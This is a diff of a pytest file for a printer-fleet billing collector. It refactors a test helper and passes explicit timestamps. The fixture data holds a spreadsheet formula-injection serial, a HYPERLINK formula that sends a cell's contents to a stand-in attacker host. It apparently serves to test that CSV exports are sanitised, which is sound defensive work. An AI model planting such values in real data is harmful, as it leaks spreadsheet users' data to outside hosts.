@@ -7,36 +7,17 @@ import csv
 import datetime as dt
 import io
 from pathlib import Path
-from typing import Any
 
 import pytest
 from printwatch.collector import billing, settings
-from printwatch.collector.enrolment import add_site, enrol
-from printwatch.collector.ingest import receive
 from printwatch.collector.meternames import Mapping, set_name
 from printwatch.collector.store import CollectorStore
 from printwatch.collector.sync import due_reads, sync_for
-from printwatch.uplink.codec import encode_payload
-from printwatch.uplink.signing import Identity, seal
+
+from tests.support.collector import FedSite as Site
 
 NOW = dt.datetime(2026, 11, 3, 9, 0)
 HOSTILE_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-
-
-class Site:
-    """One enrolled site and its appliance, sending messages into the store."""
-
-    def __init__(self, store: CollectorStore, site: str = "site-a") -> None:
-        self.store, self.site, self.seq = store, site, 0
-        token = add_site(store, site, now=NOW - dt.timedelta(days=60))
-        self.me = Identity.generate()
-        enrol(store, site, token, self.me.public_raw, now=NOW - dt.timedelta(days=60))
-
-    def send(self, kind: str, data: dict[str, Any], at: dt.datetime, now: dt.datetime = NOW) -> Any:
-        self.seq += 1
-        stamp = int(at.replace(tzinfo=dt.UTC).timestamp())
-        message = {"site": self.site, "seq": self.seq, "kind": kind, "at": stamp, "data": data}
-        return receive(self.store, seal(self.me, encode_payload(message)), now=now)
 
 
 def fleet(site: Site) -> None:
@@ -44,13 +25,16 @@ def fleet(site: Site) -> None:
         {"n": 1, "serial": "S1", "vendor": "HP", "model": "M404"},
         {"n": 2, "serial": HOSTILE_SERIAL, "vendor": "HP", "model": "M404"},
     ]
-    site.send("register", {"devices": devices}, NOW - dt.timedelta(days=40))
+    site.send("register", {"devices": devices}, NOW - dt.timedelta(days=40), NOW)
     october = dt.datetime(2026, 10, 1, 1)
     counters = [["Total Impressions", "1.3.6.1.4.1.11.2.3.9.4.2.1.4.1.2.5.0", 1234]]
     site.send(
-        "billing", {"cycle": "2026-10-01", "r": [[1, {"total": 1000}, counters], [2, {"total": 50}]]}, october
+        "billing",
+        {"cycle": "2026-10-01", "r": [[1, {"total": 1000}, counters], [2, {"total": 50}]]},
+        october,
+        NOW,
     )
-    site.send("billing", {"cycle": "2026-11-01", "r": [[2, {"total": 80}]]}, dt.datetime(2026, 11, 1, 2))
+    site.send("billing", {"cycle": "2026-11-01", "r": [[2, {"total": 80}]]}, dt.datetime(2026, 11, 1, 2), NOW)
 
 
 def test_cycles_list_reads_with_evidence_and_the_missing(collector_store: str | Path) -> None:
